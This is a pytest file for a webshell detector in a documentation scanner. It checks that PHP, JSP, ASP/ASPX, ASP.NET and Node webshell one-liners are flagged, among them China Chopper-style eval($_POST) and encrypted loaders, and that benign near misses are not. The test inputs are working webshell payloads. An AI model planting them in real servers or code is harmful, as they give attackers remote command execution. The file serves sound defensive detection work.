"""webshell (CAC402): one-liners and combinations that run request input; near misses."""

from __future__ import annotations

import time

import pytest

from mkdocs_threatpub.scanners.base import Hit
from mkdocs_threatpub.scanners.detectors.webshell import DETECTOR
from mkdocs_threatpub.scanners.document import Document, Segment, document_from_text
from tests.detectors._network import translated


def scan(text: str) -> list[Hit]:
    return translated(list(DETECTOR.scan(document_from_text(text))))


def fenced(body: str, lang: str = "") -> str:
    return f"Intro.\n\n```{lang}\n{body}\n```\n"


@pytest.mark.parametrize(
    ("body", "lang", "kind"),
    [
        # China Chopper and friends.
        ("<?php @eval($_POST['pass']);?>", "php", "PHP webshell (request input executed)"),
        (
            "<?php eval(base64_decode($_POST['z0'])); ?>",
            "php",
            "PHP webshell (request input executed)",
        ),
        (
            "<?php @eval(gzinflate(base64_decode($_COOKIE['x']))); ?>",
            "php",
            "PHP webshell (request input executed)",
        ),
        ("<?php assert($_REQUEST['cmd']); ?>", "php", "PHP webshell (request input executed)"),
        ("<?php system($_GET['cmd']); ?>", "php", "PHP webshell (request input executed)"),
        ("<?php passthru( $_GET[c] ); ?>", "", "PHP webshell (request input executed)"),
        ("<?php $_GET['a']($_GET['b']); ?>", "php", "request-chosen function called"),
        (
            "<?php array_map('assert', (array)$_REQUEST['x']); ?>",
            "php",
            "callback executes request input",
        ),
        (
            "<?php call_user_func('assert', $_POST['x']); ?>",
            "php",
            "callback executes request input",
        ),
        ("<?php preg_replace('/.*/e', $_POST['code'], ''); ?>", "php", "preg_replace /e"),
        ("<?php echo `$_GET['c']`; ?>", "php", "request input run in backticks"),
        (
            "<?php $k='e45e329feb5d925b'; $post=file_get_contents('php://input');\n"
            "$post=openssl_decrypt($post, 'AES128', $k); eval($post); ?>",
            "php",
            "PHP webshell (request body evaluated)",
        ),
        # JSP
        (
            '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
            "jsp",
            "JSP webshell",
        ),
        (
            '<% String cmd = request.getParameter("cmd");\n'
            "   Process p = Runtime.getRuntime().exec(cmd); %>",
            "jsp",
            "JSP webshell",
        ),
        (
            '<% new ProcessBuilder(new String[]{"sh", "-c", request.getParameter("c")}).start(); %>',
            "jsp",
            "JSP webshell",
        ),
        (
            '<% Cipher c = Cipher.getInstance("AES"); c.init(2, key);\n'
            "byte[] b = c.doFinal(base64(request.getReader().readLine()));\n"
            "new U(this.getClass().getClassLoader()).defineClass(b, 0, b.length); %>",
            "jsp",
            "JSP webshell (encrypted class loader)",
        ),
        # ASP / ASPX
        (
            '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>',
            "aspx",
            "ASP webshell",
        ),
        ('<%eval request("pass")%>', "asp", "ASP webshell"),
        ('<%execute request("x")%>', "", "ASP webshell"),
        (
            'ProcessStartInfo psi = new ProcessStartInfo();\npsi.FileName = "cmd.exe";\n'
            'psi.Arguments = "/c " + Request.Form["c"];\nProcess.Start(psi);',
            "csharp",
            "ASP.NET webshell",
        ),
        # Node
        ('require("child_process").exec(req.query.cmd)', "js", "Node.js webshell"),
    ],
)
def test_webshells_are_strong(body: str, lang: str, kind: str) -> None:
    hits = scan(fenced(body, lang))
    assert hits, body
    assert all(h.strong and h.rule == "CAC402" for h in hits)
    assert any(kind in h.what for h in hits), [h.what for h in hits]
    assert all(4 <= h.line <= 4 + body.count("\n") for h in hits)


def test_a_one_liner_in_prose_is_still_the_whole_tool() -> None:
    hits = scan("The server component is `<?php @eval($_POST['password']);?>`, uploaded as a.php.")
    assert hits
    assert all(h.strong for h in hits)
    assert {h.what for h in hits} <= {
        "PHP webshell (request input executed) in prose",
        "PHP webshell (request input executed) in inline code",
    }


def test_entity_encoded_webshell_is_decoded() -> None:
    hits = scan("<pre>&lt;?php @eval(&#36;_POST[&#39;x&#39;]);?&gt;</pre>\n")
    assert [h.what for h in hits] == [
        "PHP webshell (request input executed) in prose (HTML-entity-encoded)"
    ]


def test_findings_do_not_quote_the_code() -> None:
    for h in scan(fenced("<?php @eval($_POST['secretpass']);?>", "php")):
        assert "secretpass" not in h.what
        assert "$_POST" not in h.what
        assert "eval" not in h.what


@pytest.mark.parametrize(
    "text",
    [
        # Talking about webshells.
        "Webshells such as China Chopper call `eval($_POST` on attacker input.",
        "The attacker uploaded a webshell and ran commands through it.",
        # Request input that is printed, escaped, or only an argument of a fixed command.
        fenced("<?php echo htmlspecialchars($_GET['q']); ?>", "php"),
        fenced("<?php system(escapeshellarg($_GET['file'])); ?>", "php"),
        fenced("<?php echo shell_exec('ping -c 1 ' . $_GET['ip']); ?>", "php"),
        fenced("<?php system('ls -la'); $name = $_POST['name']; ?>", "php"),
        fenced("<?php $id = (int) $_GET['id']; eval('return 1;'); ?>", "php"),
        # Java that reads a parameter and runs a fixed command.
        fenced('String name = request.getParameter("name");\nout.println(name);', "java"),
        fenced('Runtime.getRuntime().exec("uptime");', "java"),
        # JSON bodies and ordinary ASP.NET.
        fenced("$data = json_decode(file_get_contents('php://input'), true);", "php"),
        fenced(
            'var q = Request.QueryString["q"];\nResponse.Write(Server.HtmlEncode(q));', "csharp"
        ),
        "The server evaluates the request (eval request) in an unsafe way.",
        fenced('app.get("/", (req, res) => res.send(req.query.name))', "js"),
    ],
)
def test_near_misses(text: str) -> None:
    assert scan(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "a" * 100_000,
        " " * 5_000 + "x",
        "eval(" * 20_000,
        "$_POST[" * 14_000,
        "```\n" + "Runtime.getRuntime().exec(" * 4_000 + "\n```",
        "```\n" + "String a = request.getParameter(x);" * 2_500 + "\n```",
    ],
)
def test_linear_time_on_hostile_input(text: str) -> None:
    started = time.perf_counter()
    scan(text)
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize("kind", ["code", "prose"])
@pytest.mark.parametrize(
    "text",
    [
        "a" * 100_000,
        " " * 100_000,
        "eval(" * 20_000 + "$_POST[",
        "Runtime.getRuntime().exec(" * 4_000,
        "<?php @eval($_POST['x']);?>\n" * 4_000,
    ],
)
def test_linear_time_past_the_document_line_cap(kind: str, text: str) -> None:
    # document_from_text cuts lines at MAX_LINE; a detector must not rely on that.
    doc = Document([Segment(kind, text, 1)])
    started = time.perf_counter()
    list(DETECTOR.scan(doc))
    assert time.perf_counter() - started < 1.0
